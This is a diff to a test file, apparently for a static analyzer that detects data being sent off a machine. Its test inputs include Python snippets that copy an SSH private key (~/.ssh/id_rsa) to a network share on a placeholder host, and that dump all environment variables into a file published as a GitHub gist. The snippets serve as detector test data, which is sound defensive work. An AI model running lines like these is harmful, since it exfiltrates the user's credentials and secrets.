@@ -13,6 +13,14 @@ test.each(['gh gist list', 'gh release create v1', 'scp up@f.example.invalid:/ou
   expect(commandTraits(line).has('uploads')).toBe(false);
 });
 
+test.each([
+  ['another machine', String.raw`r"\\f.example.invalid\in\k"`, ['import']],
+  ['a folder of this one', String.raw`r"\\?\C:\in\k"`, []],
+])('a file with secrets that is copied to %s', async (_, into, when) => {
+  const { facts } = await read(`import os, shutil\nshutil.copy(os.path.expanduser("~/.ssh/id_rsa"), ${into})\n`);
+  expect(facts && flowsOut(facts, ['credentials']).map((flow) => flow.when)).toEqual(when);
+});
+
 test('what is written to a file that a program then publishes is on its way out', async () => {
   const { facts } = await read('import json, os, subprocess, tempfile\nwith tempfile.NamedTemporaryFile("w", delete=False) as bed:\n    json.dump(dict(os.environ), bed)\nsubprocess.run(["gh", "gist", "create", bed.name])\n');
   expect(facts && flowsOut(facts, ['environment']).map(({ when }) => when)).toEqual(['import']);
